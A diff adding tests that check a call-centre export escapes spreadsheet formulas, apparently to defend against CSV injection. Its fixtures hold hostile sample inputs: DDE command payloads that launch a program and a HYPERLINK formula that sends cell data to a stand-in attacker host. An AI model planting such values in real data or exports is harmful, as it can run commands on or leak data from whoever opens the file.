@@ -345,3 +345,38 @@ async def test_a_lookup_reads_only_its_callers_calls_however_many_there_are(data
 
 def _nodes(node: dict[str, Any]) -> list[dict[str, Any]]:
     return [node, *(n for child in node.get("Plans", ()) for n in _nodes(child))]
+
+
+def test_the_export_neutralises_what_a_spreadsheet_would_run() -> None:
+    from callcenter.records.customers import spreadsheet_safe
+
+    for formula in ('=HYPERLINK("http://x","y")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd",
+                    "-2+3+cmd|' /C calc'!A0", "\tx", "\r=1"):  # fmt: skip
+        assert spreadsheet_safe(formula) == "'" + formula
+    for data in ("+8613812345678", "-12.5", "013812345678", "Li Lei", "a=b", ""):
+        assert spreadsheet_safe(data) == data
+
+
+async def test_a_callers_name_that_is_a_formula_is_exported_as_text(database: str) -> None:
+    import csv
+    import io
+
+    conn = await migrated(database)
+    store = Store(database)
+    try:
+        cid, name = "c2@pbx", '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+        events: list[Any] = [
+            CallQueued(cid, "hotline", "+8613812345678", 1),
+            CallOffered(cid, "hotline", "a001", "l1", "+8613812345678", name, 1),
+        ]
+        await store.write([to_record("b", i, 1_763_900_000.0 + i, e)
+                           for i, e in enumerate(events)])  # fmt: skip
+        text = await export_calls(
+            conn, datetime(2025, 1, 1, tzinfo=UTC), datetime(2030, 1, 1, tzinfo=UTC)
+        )
+        [row] = list(csv.DictReader(io.StringIO(text)))
+        assert row["caller_name"] == "'" + name
+        assert row["caller"] == "+8613812345678"
+    finally:
+        await store.close()
+        await conn.close()
